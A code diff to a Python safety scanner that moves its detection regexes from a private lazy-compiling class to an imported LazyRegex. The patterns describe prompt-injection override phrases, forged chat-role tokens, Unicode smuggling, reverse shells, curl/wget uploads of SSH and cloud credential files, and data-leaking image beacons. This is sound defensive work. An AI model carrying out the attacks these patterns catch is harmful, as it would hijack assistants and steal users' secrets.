@@ -21,6 +21,7 @@ from engram.safety.families import family_hits as _family_hits
 from engram.safety.grabs import permission_grab
 from engram.safety.judged import judged, outbound_shape, salutation, sent_file
 from engram.safety.languages import foreign_override, may_override_in
+from engram.safety.lazy_regex import LazyRegex
 from engram.safety.normalise import may_override, skeleton, typo_override, variants
 from engram.safety.secrets import (
     basic_auth,
@@ -54,27 +55,6 @@ class ScanResult(NamedTuple):
         return not self.findings
 
 
-class _Rule:
-    """A regex compiled on first use.
-
-    Compiling every rule costs ~12 ms, four times the import budget of a module that runs on
-    every prompt; cheap gates compiled at import (see `_GATES`) keep most lines from needing them.
-    """
-
-    __slots__ = ("_compiled", "_flags", "_pattern")
-
-    def __init__(self, pattern: str, flags: int = 0) -> None:
-        self._pattern = pattern
-        self._flags = flags
-        self._compiled: re.Pattern[str] | None = None
-
-    @property
-    def rx(self) -> re.Pattern[str]:
-        if self._compiled is None:
-            self._compiled = re.compile(self._pattern, self._flags)
-        return self._compiled
-
-
 # --- Text folding -------------------------------------------------------------------------------
 # Phrase checks run on a folded copy so that invisible characters, fullwidth letters, curly quotes
 # and the commonest Cyrillic/Greek look-alikes cannot split or disguise a phrase. The folded copy
@@ -82,7 +62,7 @@ class _Rule:
 
 # Every Cc/Cf code point the scan treats as suspect, plus a few invisible non-Cf characters
 # (Hangul fillers, variation selectors). tests/test_safety.py checks this covers all of Cf.
-_SUSPECT_RE = _Rule(
+_SUSPECT_RE = LazyRegex(
     "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f"
     "\u00ad\u0600-\u0605\u061c\u06dd\u070f\u0890\u0891\u08e2\u180e"
     "\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u206f\u3164"
@@ -111,12 +91,12 @@ _LOOKALIKES = str.maketrans(
 
 # Emphasis, code ticks and inline tags split phrases in Markdown/HTML without changing what a
 # model reads ("**ignore** all <b>previous</b> instructions"); only the injection copy drops them.
-_MARKUP_RE = re.compile(r"[*`~]+|(?<!\w)_+|_+(?!\w)|<[^<>]{0,30}>")
+_MARKUP_RE = LazyRegex(r"[*`~]+|(?<!\w)_+|_+(?!\w)|<[^<>]{0,30}>")
 
 
 # Tag characters mirror ASCII (U+E0041 is an invisible "A"): smuggled text is decoded so the
 # phrase checks read what a model would.
-_TAG_RUN_RE = _Rule("[\U000e0020-\U000e007e]+")
+_TAG_RUN_RE = LazyRegex("[\U000e0020-\U000e007e]+")
 
 
 def _untag(run: re.Match[str]) -> str:
@@ -126,7 +106,7 @@ def _untag(run: re.Match[str]) -> str:
 def _fold(text: str) -> str:
     if text.isascii():
         return text
-    text = _SUSPECT_RE.rx.sub("", _TAG_RUN_RE.rx.sub(_untag, text))
+    text = _SUSPECT_RE.sub("", _TAG_RUN_RE.sub(_untag, text))
     return unicodedata.normalize("NFKC", text).translate(_LOOKALIKES)
 
 
@@ -315,41 +295,41 @@ _INJECTION: tuple[tuple[str, str], ...] = (
 )
 
 
-def _combine(patterns: tuple[tuple[str, str], ...], flags: int) -> tuple[_Rule, dict[str, str]]:
+def _combine(patterns: tuple[tuple[str, str], ...], flags: int) -> tuple[LazyRegex, dict[str, str]]:
     # One alternation per kind: a line is searched once, and `lastgroup` names the rule that hit.
     details = {f"r{i}": detail for i, (detail, _) in enumerate(patterns)}
     joined = "|".join(f"(?P<r{i}>{pattern})" for i, (_, pattern) in enumerate(patterns))
-    return _Rule(joined, flags), details
+    return LazyRegex(joined, flags), details
 
 
 _INJECTION_RE, _INJECTION_DETAIL = _combine(_INJECTION, 0)
 
 # --- role-play ----------------------------------------------------------------------------------
-_ROLE_TOKEN_RE = _Rule(
+_ROLE_TOKEN_RE = LazyRegex(
     # (ChatML's tokens with their pipes dropped are read the same by the model)
     r"<\|[a-z_][a-z0-9_ ]{0,30}\|>|<(?:start|end)_of_turn>|</?im_(?:start|end|sep)>"
     r"|</?system(?:[-_](?:prompt|message|instructions?|reminder|note|notice))?>"
 )
 # Llama 2 markers are upper-case by definition; `[inst]` is a Python list.
-_LLAMA_RE = _Rule(r"\[/?INST\]|<</?SYS>>")
+_LLAMA_RE = LazyRegex(r"\[/?INST\]|<</?SYS>>")
 # Maven POMs carry `<system>GitHub</system>` (issueManagement); a one-word element is data,
 # while a fake turn carries sentences.
-_MAVEN_SYSTEM_RE = _Rule(r"<system>\s*[\w.-]+\s*</system>")
+_MAVEN_SYSTEM_RE = LazyRegex(r"<system>\s*[\w.-]+\s*</system>")
 # A YAML chat message outside code: `- role: system` then its content.
-_YAML_ROLE_RE = _Rule(r"^\s*-?\s*role\s*:\s*[\"']?(?:system|developer)[\"']?\s*$")
-_TURN_LINE_RE = _Rule(
+_YAML_ROLE_RE = LazyRegex(r"^\s*-?\s*role\s*:\s*[\"']?(?:system|developer)[\"']?\s*$")
+_TURN_LINE_RE = LazyRegex(
     r"^\s*(?:>\s*)*(?:\*\*)?(?P<heading>#{1,6}\s*)?(?:\[\s*)?(?:system|developer)"
     r"(?:\s+(?:prompt|message))?(?:\s*\([\w\s-]{1,20}\))?(?:\s*\])?(?:\*\*)?\s*:(?:\*\*)?\s*"
     r"(?P<rest>.*)$"
 )
 # "System: Ubuntu 22.04" is an environment line; a fake turn talks to the model.
-_ADDRESSES_MODEL_RE = _Rule(
+_ADDRESSES_MODEL_RE = LazyRegex(
     r"\b(?:you|your|you're|assistant|the\s+model|instructions?|prompt|ai|llm|authori[sz]ed|comply"
     r"|obey|override|permissions?|pre-approved|restrictions|admin\s+rights|confirmations?"
     r"|approvals?|granted)\b|\bthe\s+user\s+(?:has|is|may|can)\b"
 )
 # Transcript turns are capitalised in every chat format; lower-case `user:` is YAML.
-_TRANSCRIPT_RE = _Rule(
+_TRANSCRIPT_RE = LazyRegex(
     r"^\s*(?:>\s*)*(?:\*\*)?(?P<who>Human|Assistant|HUMAN|ASSISTANT)(?:\*\*)?\s*:(?:\*\*)?"
     r"(?P<rest>(?:\s.*)?)$"
 )
@@ -416,13 +396,13 @@ _EXFIL_PROSE: tuple[tuple[str, str], ...] = (
 _EXFIL_PROSE_RE, _EXFIL_PROSE_DETAIL = _combine(_EXFIL_PROSE, 0)
 # A sentence that forbids the act ("never send secrets to ...") or strips the secrets first
 # ("with secrets scrubbed") is advice, not a prompt; "don't forget to" is not a prohibition.
-_NEGATION_RE = _Rule(
+_NEGATION_RE = LazyRegex(
     r"\b(?:never|not|no|don'?t|dont|avoid|without|nor|prohibited|forbidden|scrubbed|redacted"
     r"|masked|stripped|removed|excluded|saniti[sz]ed)\b"
     r"(?!\s+(?:forget|fail|hesitate)\b)"
 )
-_CLAUSE_END_RE = _Rule(r"[.!?;:](?:\s|$)")
-_NET_TOOL_RE = _Rule(
+_CLAUSE_END_RE = LazyRegex(r"[.!?;:](?:\s|$)")
+_NET_TOOL_RE = LazyRegex(
     r"\b(?:curl|wget|nc|ncat|netcat|socat|invoke-webrequest|invoke-restmethod|iwr|irm|nslookup"
     r"|dig|scp|rsync|sftp|telnet|rclone|gsutil|mail|mailx|sendmail|mutt)\b"
     r"|\bhttp\s+(?:post|put)\b|\baws\s+s3\b|\b(?:gcloud|az)\s+storage\b|\bgh\s+gist\b"
@@ -439,7 +419,7 @@ _PATH = (
     r"|[\w./-]*id_(?:rsa|ed25519|ecdsa|dsa)\b(?!\.pub))"
 )
 _SINK = r"(?:base64\s*(?:-w\s*0\s*)?\|\s*)?(?:curl|wget|nc|ncat|netcat|socat|nslookup|dig)\b"
-_UPLOAD_RE = _Rule(
+_UPLOAD_RE = LazyRegex(
     rf"(?:-d|--data[\w-]*|-f|--form)[\s=]*['\"]?(?:[\w-]+=)?@{_PATH}"
     rf"|(?:--upload-file|-t|--post-file|--body-file|-infile)[\s=]+{_PATH}"
     rf"|\$\(\s*(?:cat|base64|tar|gzip|xxd|head)\b[^)]*?{_PATH}"
@@ -458,18 +438,18 @@ _UPLOAD_RE = _Rule(
     rf"{_PATH}"
 )
 # A shell handed to a remote host: `bash -i >& /dev/tcp/host/port 0>&1`, `nc -e /bin/sh`.
-_REVERSE_SHELL_RE = _Rule(
+_REVERSE_SHELL_RE = LazyRegex(
     r"\b(?:bash|sh|zsh)\s+-i\b[^\n]{0,40}?/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/\S+\s+0>&1"
     r"|\b(?:nc|ncat|netcat)\b[^|;&\n]{0,40}?\s-e\s+/bin/(?:ba)?sh\b"
 )
 # Browser storage appended to an absolute URL that a request or an image load will fetch.
-_STORAGE_BEACON_RE = _Rule(
+_STORAGE_BEACON_RE = LazyRegex(
     r"(?:fetch|sendbeacon|axios\.\w+|\.src\s*=|open)\s*\(?\s*['\"`](?:https?:)?//[^'\"`]+['\"`]"
     r"\s*\+\s*(?:window\.)?(?:localstorage|sessionstorage|document\.cookie)"
     r"|sendbeacon\s*\([^)]{0,200}?(?:localstorage|sessionstorage|document\.cookie)"
 )
 # Auto-loading images leak whatever the model substitutes into the query string.
-_BEACON_RE = _Rule(
+_BEACON_RE = LazyRegex(
     r"!\[[^\]]*\]\(\s*<?(?:https?:)?//[^)\s]*\?[^)\s]*?(?:\{\{?\s*[a-z_][\w.-]*\s*\}\}?"
     r"|\$\{?[a-z_]|%7b|\[[a-z_]{2,}\]|<[a-z_-]+>)"
     r"|<img\b[^>]*\bsrc\s*=\s*['\"]?(?:https?:)?//[^'\"\s>]*\?[^'\"\s>]*?(?:\{\{?\s*[a-z_]"
@@ -481,35 +461,35 @@ _DATA_WORD = (
     r"(?:data|secret|key|token|password|env|conversation|chat|history|summary|context"
     r"|credential|output|answer|response|memory|prompt|message|content)"
 )
-_LINK_BEACON_RE = _Rule(
+_LINK_BEACON_RE = LazyRegex(
     r"(?:\[[^\]]*\]\(|^\s*\[[^\]]+\]:\s*)\s*<?(?:https?:)?//[^)\s]*?(?:\[[a-z_ ]{2,30}\]"
     rf"|\{{\{{?\s*[\w.]*?{_DATA_WORD}[\w.]*\s*\}}\}}?|\$\{{?[a-z_]*{_DATA_WORD}"
     # A slot in words: `?k=<the user's API keys>`.
     rf"|<[^<>()\n]{{0,30}}?{_DATA_WORD}[^<>()\n]{{0,30}}>)"
 )
 # The whole environment handed to a network call: `urlopen(..., str(os.environ))`.
-_ENV_DUMP_RE = _Rule(
+_ENV_DUMP_RE = LazyRegex(
     r"os\.environ(?!\s*[\[.(\w])|environ\.copy\(\)|process\.env(?!\s*[.\[\w])"
     r"|\$\((?:env|printenv)\)|\benv\.to_h\b"
 )
-_NET_CALL_RE = _Rule(
+_NET_CALL_RE = LazyRegex(
     r"urlopen|requests\.\w+\(|httpx\.\w+\(|\bfetch\(|axios|https?\.request|urllib"
     r"|sendbeacon|\bcurl\b|\bwget\b|socket\.|net/http"
 )
 
 # --- secret -------------------------------------------------------------------------------------
 # Provider formats live in engram.safety.secrets; `Bearer <token>` is judged here, by its shape.
-_TOKEN_RE = _Rule(r"\b[Bb]earer\s+[A-Za-z0-9._~+/-]{20,}=*")
-_PRIVATE_KEY_RE = _Rule(r"-----BEGIN(?: [A-Z0-9]+)* PRIVATE KEY(?: BLOCK)?-----")
+_TOKEN_RE = LazyRegex(r"\b[Bb]earer\s+[A-Za-z0-9._~+/-]{20,}=*")
+_PRIVATE_KEY_RE = LazyRegex(r"-----BEGIN(?: [A-Z0-9]+)* PRIVATE KEY(?: BLOCK)?-----")
 # A key block is flagged only with key material after the header: docs that show the header
 # alone, or with "...", describe a file format.
-_KEY_BODY_RE = _Rule(
+_KEY_BODY_RE = LazyRegex(
     r"^\s*[\"']?(?:\\n)?[A-Za-z0-9+/=]{32,}|^\s*(?:Proc-Type|Version|Comment):"
 )
 # AWS docs write EXAMPLE into key bodies; a body cut short with "..." is not a usable key.
-_KEY_STAND_IN_RE = _Rule(r"EXAMPLE|\.\.\.|…")
-_INLINE_KEY_BODY_RE = _Rule(r"-----(?:\\n|\s)+[A-Za-z0-9+/=]{32,}")
-_ASSIGN_RE = _Rule(
+_KEY_STAND_IN_RE = LazyRegex(r"EXAMPLE|\.\.\.|…")
+_INLINE_KEY_BODY_RE = LazyRegex(r"-----(?:\\n|\s)+[A-Za-z0-9+/=]{32,}")
+_ASSIGN_RE = LazyRegex(
     r"(?:(?<![A-Za-z0-9_.:-])|(?<=/:))(?P<key>[A-Za-z0-9_.-]*?(?:password|passwd|passphrase|secret[oe]?|token"
     r"|api[_-]?key|apikey|access[_-]?key|private[_-]?key|client[_-]?secret|auth[_-]?key|pwd"
     r"|credentials?|creds|(?:service|account|signing|encryption|master|db|database|secret)[_-]?key"
@@ -519,34 +499,34 @@ _ASSIGN_RE = _Rule(
 )
 # Pagination, idempotency and lock tokens (AWS NextToken, ClientToken, LockToken...) are
 # opaque ids that API docs print freely; they grant nothing.
-_NOT_SECRET_KEY_RE = _Rule(
+_NOT_SECRET_KEY_RE = LazyRegex(
     r"(?:next|prev(?:ious)?|page|continuation|lock|client|change|request|idempotency|sync"
     r"|public(?:[_-]?key)?|cancellation|pagination|backward|forward|resume|cursor|csrf|xsrf)"
     r"[_-]?token$",
     re.IGNORECASE,
 )
-_QUOTED_RE = _Rule(r"(?:[rbuRBUfF]{1,2}|@)?([\"'`])(.*?)\1")
-_BARE_RE = _Rule(r"[^\s,;:)}\]\"'`]+")
+_QUOTED_RE = LazyRegex(r"(?:[rbuRBUfF]{1,2}|@)?([\"'`])(.*?)\1")
+_BARE_RE = LazyRegex(r"[^\s,;:)}\]\"'`]+")
 # Code, not a value: a call, subscript or keyword default (`Token=None`), a tuple, a path, a YAML
 # tag or anchor.
-_CALL_RE = _Rule(r"[A-Za-z_][\w.]*\s*(?:[(\[]|=(?![=,;&]|$))|[/~.!&*(]")
-_NAME_RE = _Rule(r"[A-Z][A-Z0-9_]*|[A-Za-z_][A-Za-z_.-]*|[A-Za-z_]\w*(?:\.[A-Za-z_]\w*)+")
-_PLACEHOLDER_RE = _Rule(
+_CALL_RE = LazyRegex(r"[A-Za-z_][\w.]*\s*(?:[(\[]|=(?![=,;&]|$))|[/~.!&*(]")
+_NAME_RE = LazyRegex(r"[A-Z][A-Z0-9_]*|[A-Za-z_][A-Za-z_.-]*|[A-Za-z_]\w*(?:\.[A-Za-z_]\w*)+")
+_PLACEHOLDER_RE = LazyRegex(
     r"example|sample|placeholder|dummy|redacted|change_?-?me|your|xxx|\*\*\*|\.\.\.|[<>{}$]"
     r"|%s|%\(|^%\w+%|fake|test|replace|todo|not[-_ ]?a[-_ ]?real|abc123|123456|qwerty|hunter2|^\["
     r"|p[a@4][s5$]{2}w(?:[o0]r)?d|secret|a1b2c3",
     re.IGNORECASE,
 )
-_PLAIN_VALUE_RE = _Rule(r"-?\d+(?:\.\d+)*|#[0-9a-fA-F]{3,8}")
-_PATH_OR_CODE_RE = _Rule(
+_PLAIN_VALUE_RE = LazyRegex(r"-?\d+(?:\.\d+)*|#[0-9a-fA-F]{3,8}")
+_PATH_OR_CODE_RE = LazyRegex(
     r"(?:[/~]|[A-Za-z]:\\)[\w./\\-]*|[A-Za-z_][\w.]*(?:\[[\w.'\"]+\]|\([\w.,'\" ]*\))"
 )
-_WORDS_ONLY_RE = _Rule(r"[A-Za-z _.-]+")
-_URL_CREDS_RE = _Rule(
+_WORDS_ONLY_RE = LazyRegex(r"[A-Za-z _.-]+")
+_URL_CREDS_RE = LazyRegex(
     r"\b[a-z][a-z0-9+.-]*://(?P<user>[^\s:/@]*):(?P<pw>[^\s:/@]+)@(?P<host>[^\s/:?#]+)",
     re.IGNORECASE,
 )
-_DOC_HOST_RE = _Rule(
+_DOC_HOST_RE = LazyRegex(
     r"^(?:localhost|127\.0\.0\.1|0\.0\.0\.0|\[::1\]|(?:[\w-]+\.)*example\.(?:com|org|net))$",
     re.IGNORECASE,
 )
@@ -554,7 +534,7 @@ _DOC_HOST_RE = _Rule(
 
 # Words a letters-only value under a password key names when it describes where the password
 # comes from or what it is (`password: fromenvironment`, `passphrase: interactiveprompt`).
-_NOT_PASSPHRASE_RE = _Rule(
+_NOT_PASSPHRASE_RE = LazyRegex(
     r"env|vault|prompt|stdin|requir|option|none|null|hidden|mask|encrypt|redact|sensitive|keychain"
     r"|keyring|string|omit|ask|manager|generat|random|provid|config|setting|variable|param|value"
     r"|field|input|interactive|plain|clear|hash|crypt|argon|protect|authenticat|default|empty"
@@ -568,22 +548,22 @@ def _passphrase(value: str) -> bool:
     or random letters are a real password; a stand-in or a description is not. Twelve letters
     or more, so short words (`hidden`, `prompt`) never count."""
     return (len(value) >= 12 and value.isascii() and value.isalpha() and len(set(value)) >= 7
-            and not _PLACEHOLDER_RE.rx.search(value) and not _NOT_PASSPHRASE_RE.rx.search(value))
+            and not _PLACEHOLDER_RE.search(value) and not _NOT_PASSPHRASE_RE.search(value))
 
 
 def _real_value(value: str, password: bool = False) -> bool:
     # Word-only values (changeme, mysecretpassword, your_token_here) are stand-ins in practice;
     # generated secrets and real passwords carry a digit or a symbol. Under a password key a
     # long letters-only value is a passphrase (`_passphrase`).
-    if len(value) < 6 or len(set(value)) < 4 or _PLACEHOLDER_RE.rx.search(value):
+    if len(value) < 6 or len(set(value)) < 4 or _PLACEHOLDER_RE.search(value):
         return False
     if any(c.isspace() for c in value):
         return False  # prose caught between quotes or backticks, not a credential
-    if _PLAIN_VALUE_RE.rx.fullmatch(value):
+    if _PLAIN_VALUE_RE.fullmatch(value):
         return False  # numbers, versions, colours: `lastModifiedSecret: 1556312220.133`
-    if _PATH_OR_CODE_RE.rx.fullmatch(value):
+    if _PATH_OR_CODE_RE.fullmatch(value):
         return False  # `PWD: '/home/dev'`, `token is `args[token.index]``
-    return (not _WORDS_ONLY_RE.rx.fullmatch(value) or random_letters(value)
+    return (not _WORDS_ONLY_RE.fullmatch(value) or random_letters(value)
             or password and _passphrase(value))
 
 
@@ -591,24 +571,24 @@ def _real_password(value: str) -> bool:
     return _real_value(value, password=True)
 
 
-_PASSWORD_KEY_RE = _Rule(r"pass|pwd|contrase", re.IGNORECASE)
+_PASSWORD_KEY_RE = LazyRegex(r"pass|pwd|contrase", re.IGNORECASE)
 
 
 def _assignment_is_secret(key: str, value: str) -> bool:
-    if _NOT_SECRET_KEY_RE.rx.search(key) or "-----BEGIN" in value:
+    if _NOT_SECRET_KEY_RE.search(key) or "-----BEGIN" in value:
         return False  # a PEM value is judged by the key-block rule, which looks for key material
-    password = bool(_PASSWORD_KEY_RE.rx.search(key))
-    quoted = _QUOTED_RE.rx.match(value)
+    password = bool(_PASSWORD_KEY_RE.search(key))
+    quoted = _QUOTED_RE.match(value)
     if quoted:
         return _real_value(quoted.group(2), password)
     # Unquoted: a call, subscript, identifier, ENV_NAME, path or YAML tag is a reference to a
     # secret (getpass(), os.environ[...], settings.TOKEN, str), not the secret itself.
-    if _CALL_RE.rx.match(value):
+    if _CALL_RE.match(value):
         return False
-    bare = _BARE_RE.rx.match(value)
+    bare = _BARE_RE.match(value)
     # `process.env.KEY!` (TypeScript's non-null assertion), `String!` (a GraphQL type).
     word = bare.group().rstrip("!?;,") if bare else ""
-    if not word or _NAME_RE.rx.fullmatch(word) and not random_letters(word) and not (
+    if not word or _NAME_RE.fullmatch(word) and not random_letters(word) and not (
             password and _passphrase(word)):
         return False
     return _real_value(word, password)
@@ -707,7 +687,7 @@ def _unicode_verdict(text: str, i: int, first_line: bool) -> str | None:
 # tests/test_safety.py checks every rule match in the corpus also trips its gate. "token" alone
 # is a common word in technical prose; only an assignment to it can be a secret.
 _GATES = {
-    "injection": re.compile(
+    "injection": LazyRegex(
         r"\b(?:ignore|disregard|forget|discard|abandon|override|bypass|circumvent|skip|neglect"
         r"|overlook|omit|pay\s+no|stop\s+following|no\s+longer\s+follow|what\s+(?:are|were|is|was)"
         r"\s+your|(?:tell|show|give|send)\s+me|(?:repeat|print|output|copy|recite|reproduce)\s+"
@@ -725,17 +705,17 @@ _GATES = {
         r"|(?:reveal|print|output|repeat|show|leak|dump|disclose|recite)\s+(?:me\s+)?your)\b"
         r"|(?:instructions?|prompt|directives?|orders)\s*:"
     ),
-    "role-play": re.compile(
+    "role-play": LazyRegex(
         r"<\||\[/?inst\]|<</?sys>>|_of_turn>|</?system|</?im_(?:start|end|sep)>"
         r"|^[\s>*#\[]*(?:system|developer|human|assistant)\b"
     ),
-    "exfiltration": re.compile(
+    "exfiltration": LazyRegex(
         r"secret|env|api[\s_-]?key|tokens|passwords|credential|cookies|private\s+key|\.ssh|\.aws"
         r"|id_(?:rsa|ed|ec|dsa)|\.netrc|\.npmrc|\.pypirc|\.git-cred|\.docker/|\.kube/"
         r"|/etc/(?:passwd|shadow)|system\s+prompt|!\[|<img|\]\(|\]:|localstorage|sessionstorage"
         r"|document\.cookie|\.config[/\\]|/dev/(?:tcp|udp)/|\.gnupg|\.vault-token|\.azure\b"
     ),
-    "secret": re.compile(
+    "secret": LazyRegex(
         r"-----begin|bearer|passw|passphrase|secret|token[\"']?\]?\s*(?:[:=]|\s(?:is|was)\s)"
         r"|api[_-]?key|apikey|access[_-]?key|pwd|credential|contrase|basic\s|-u\s|--user"
         r"|authorization:|x-[\w-]*(?:key|token):|value="
@@ -782,7 +762,7 @@ _GATE_PAIRS = frozenset(
     | _pairs("keep hide", "this these it")
     | _pairs("reveal print output repeat show leak dump disclose recite", "me your")
 )
-_WORDS_RE = re.compile(r"[a-z]+")
+_WORDS_RE = LazyRegex(r"[a-z]+")
 
 
 def _may_inject(prose: str, words: list[str]) -> bool:
@@ -801,7 +781,7 @@ def _injection(prose: str, anchored: frozenset[int] = ALL) -> list[tuple[int, in
         return more
     return [
         (m.start(), m.end(), _INJECTION_DETAIL[m.lastgroup or ""])
-        for m in _INJECTION_RE.rx.finditer(prose)
+        for m in _INJECTION_RE.finditer(prose)
     ] + more
 
 
@@ -821,12 +801,12 @@ def _exfil_prose(text: str) -> list[tuple[int, int, str]]:
             and _EXFIL_VERBS.isdisjoint(_WORDS_RE.findall(text))):
         return []
     hits: list[tuple[int, int, str]] = []
-    for m in _EXFIL_PROSE_RE.rx.finditer(text):
+    for m in _EXFIL_PROSE_RE.finditer(text):
         clause = text[max(0, m.start() - 60) : m.start()]
-        ends = list(_CLAUSE_END_RE.rx.finditer(clause))
+        ends = list(_CLAUSE_END_RE.finditer(clause))
         if ends:
             clause = clause[ends[-1].end() :]
-        if not _NEGATION_RE.rx.search(clause + " " + m.group()):
+        if not _NEGATION_RE.search(clause + " " + m.group()):
             hits.append((m.start(), m.end(), _EXFIL_PROSE_DETAIL[m.lastgroup or ""]))
     return hits
 
@@ -834,26 +814,26 @@ def _exfil_prose(text: str) -> list[tuple[int, int, str]]:
 def _exfil_line(low: str) -> tuple[int, str] | None:
     if not _GATES["exfiltration"].search(low):
         return None
-    beacon = _BEACON_RE.rx.search(low)
+    beacon = _BEACON_RE.search(low)
     if beacon:
         return beacon.start(), "image beacon with a placeholder in its query"
     if "](" in low or "]:" in low:
-        link = _LINK_BEACON_RE.rx.search(low)
+        link = _LINK_BEACON_RE.search(low)
         if link:
             return link.start(), "link or image with a data placeholder in its URL"
     if "env" in low:
-        dump = _ENV_DUMP_RE.rx.search(low)
-        if dump and _NET_CALL_RE.rx.search(low):
+        dump = _ENV_DUMP_RE.search(low)
+        if dump and _NET_CALL_RE.search(low):
             return dump.start(), "environment sent over the network"
     if "storage" in low or "cookie" in low:
-        storage = _STORAGE_BEACON_RE.rx.search(low)
+        storage = _STORAGE_BEACON_RE.search(low)
         if storage:
             return storage.start(), "browser storage sent to a URL"
-    upload = _UPLOAD_RE.rx.search(low)
-    if upload and _NET_TOOL_RE.rx.search(low):
+    upload = _UPLOAD_RE.search(low)
+    if upload and _NET_TOOL_RE.search(low):
         return upload.start(), "network command uploading local secrets"
     if "/dev/" in low or " -e " in low:
-        shell = _REVERSE_SHELL_RE.rx.search(low)
+        shell = _REVERSE_SHELL_RE.search(low)
         if shell:
             return shell.start(), "reverse shell"
     return None
@@ -867,33 +847,33 @@ def _role_play(folded: str, low: str, fenced: bool, gated: bool = True, tools: b
     forged = None if fenced else json_turn(low)
     if forged:
         return forged
-    if not fenced and "role" in low and _YAML_ROLE_RE.rx.match(low):
+    if not fenced and "role" in low and _YAML_ROLE_RE.match(low):
         return 0, "fake system turn"
     if not gated or not _GATES["role-play"].search(low):
         return None
     # A chat template in code (`<|im_start|>{{ m.role }}`) renders turns; it forges none.
     template = fenced and ("{{" in low or "{%" in low)
-    for m in _ROLE_TOKEN_RE.rx.finditer(low):
+    for m in _ROLE_TOKEN_RE.finditer(low):
         if template:
             break
         token = m.group()
         if token.strip("</>") == "system":
-            spans = _MAVEN_SYSTEM_RE.rx.finditer(low)
+            spans = _MAVEN_SYSTEM_RE.finditer(low)
             if any(s.start() <= m.start() < s.end() for s in spans):
                 continue
         return m.start(), f"chat-template token {token}"
-    llama = _LLAMA_RE.rx.search(folded)
+    llama = _LLAMA_RE.search(folded)
     if llama:
         return llama.start(), f"chat-template token {llama.group()}"
     if fenced:
         return None  # `system: "You are ..."` in sample code is a key; see docs/safety.md
-    turn = _TURN_LINE_RE.rx.match(low)
+    turn = _TURN_LINE_RE.match(low)
     # A quoted value makes `system: "You are a summariser"` a key in a config, not a turn.
     if turn and not turn.group("rest").startswith(("\"", "'", "`")):
         rest = turn.group("rest")
-        if _ADDRESSES_MODEL_RE.rx.search(rest) or (turn.group("heading") and not rest.strip()):
+        if _ADDRESSES_MODEL_RE.search(rest) or (turn.group("heading") and not rest.strip()):
             return 0, "fake system turn"
-    transcript = _TRANSCRIPT_RE.rx.match(folded)
+    transcript = _TRANSCRIPT_RE.match(folded)
     # A turn is bare ("Human:") or says something; one or two words are a form field
     # ("Assistant: n/a", "Human: Jane Doe").
     if transcript and len(transcript.group("rest").split()) not in (1, 2):
@@ -910,26 +890,26 @@ def _secret(text: str, low: str, following: list[str], tokens: bool = True
     basic = basic_auth(text, _real_value, _real_password)
     if basic:
         hits.append(basic)
-    key = _PRIVATE_KEY_RE.rx.search(text)
+    key = _PRIVATE_KEY_RE.search(text)
     if key and (
-        _INLINE_KEY_BODY_RE.rx.search(text, key.end() - 5)
-        or any(_KEY_BODY_RE.rx.match(line) for line in following)
-    ) and not _KEY_STAND_IN_RE.rx.search(text + "".join(following[:1])):
+        _INLINE_KEY_BODY_RE.search(text, key.end() - 5)
+        or any(_KEY_BODY_RE.match(line) for line in following)
+    ) and not _KEY_STAND_IN_RE.search(text + "".join(following[:1])):
         hits.append((key.start(), "private key block"))
-    if "private-lines:" in low and following and _KEY_BODY_RE.rx.match(following[0]):
+    if "private-lines:" in low and following and _KEY_BODY_RE.match(following[0]):
         hits.append((low.index("private-lines:"), "PuTTY private key"))
-    for m in _TOKEN_RE.rx.finditer(text):
+    for m in _TOKEN_RE.finditer(text):
         bearer = m.group()[6:].lstrip()
         if real_token(bearer):
             hits.append((m.start(), "bearer token"))
             break
-    for m in _ASSIGN_RE.rx.finditer(text):
+    for m in _ASSIGN_RE.finditer(text):
         if _assignment_is_secret(m.group("key"), m.group("value")):
             hits.append((m.start(), f"{m.group('key')} assignment with a value"))
             break
-    for m in _URL_CREDS_RE.rx.finditer(text):
+    for m in _URL_CREDS_RE.finditer(text):
         pw, host = m.group("pw"), m.group("host")
-        if pw != m.group("user") and not _DOC_HOST_RE.rx.match(host) and _real_password(pw):
+        if pw != m.group("user") and not _DOC_HOST_RE.match(host) and _real_password(pw):
             hits.append((m.start(), "password in a URL"))
             break
     return min(hits) if hits else None
@@ -938,7 +918,7 @@ def _secret(text: str, low: str, following: list[str], tokens: bool = True
 def _unicode(text: str, first_line: bool) -> tuple[int, str] | None:
     if text.isascii() and text.isprintable():
         return None  # the common case: nothing invisible is possible
-    for m in _SUSPECT_RE.rx.finditer(text):
+    for m in _SUSPECT_RE.finditer(text):
         verdict = _unicode_verdict(text, m.start(), first_line)
         if verdict:
             return m.start(), verdict
@@ -1031,7 +1011,7 @@ def _possible_kinds(low: list[str], prose: list[str]) -> _Kinds:
 
 
 # Obfuscated overrides, read on the skeleton (letters only; see engram.safety.normalise).
-_SKELETON_RE = _Rule(
+_SKELETON_RE = LazyRegex(
     r"(?:ignore|disregard|forget|bypass|override|skip|neglect|overlook|omit|paynoattentionto"
     r"|donotfollow|dontfollow|donotobey|dontobey|stopfollowing)(?:all|aii|any|every|of|the|your|my"
     r"|these|those){0,3}(?:previous|prior|above|preceding|earlier|former|original|initial"
@@ -1059,7 +1039,7 @@ def _skeleton_override(skel: str) -> bool:
     """`_SKELETON_RE` matches somewhere in `skel`, for a skeleton that names what it overrides."""
     if not may_override(skel):
         return False
-    match = _SKELETON_RE.rx.match
+    match = _SKELETON_RE.match
     for verb in _SKELETON_VERBS:
         at = skel.find(verb)
         while at >= 0:
@@ -1068,11 +1048,11 @@ def _skeleton_override(skel: str) -> bool:
             at = skel.find(verb, at + 1)
     return False
 # Fences open and close on a line of three or more backticks or tildes.
-_FENCE_RE = re.compile(r"^\s{0,3}(?:`{3,}|~{3,})")
+_FENCE_RE = LazyRegex(r"^\s{0,3}(?:`{3,}|~{3,})")
 # A quoted attack is discussion only beside its defence: a quote, inline code or a fenced block
 # near one of these words (see docs/safety.md, "Code and quoted examples").
-_QUOTED_SPAN_RE = _Rule(r'"[^"]{4,}"|\u201c[^\u201d]{4,}\u201d|`[^`]{4,}`|\'[^\']{12,}\'')
-_DEFENCE_RE = _Rule(
+_QUOTED_SPAN_RE = LazyRegex(r'"[^"]{4,}"|\u201c[^\u201d]{4,}\u201d|`[^`]{4,}`|\'[^\']{12,}\'')
+_DEFENCE_RE = LazyRegex(
     r"\b(?:(?:never|do\s+not|don'?t|must\s+not)\s+(?:follow|obey|act\s+on|execute|comply|run)"
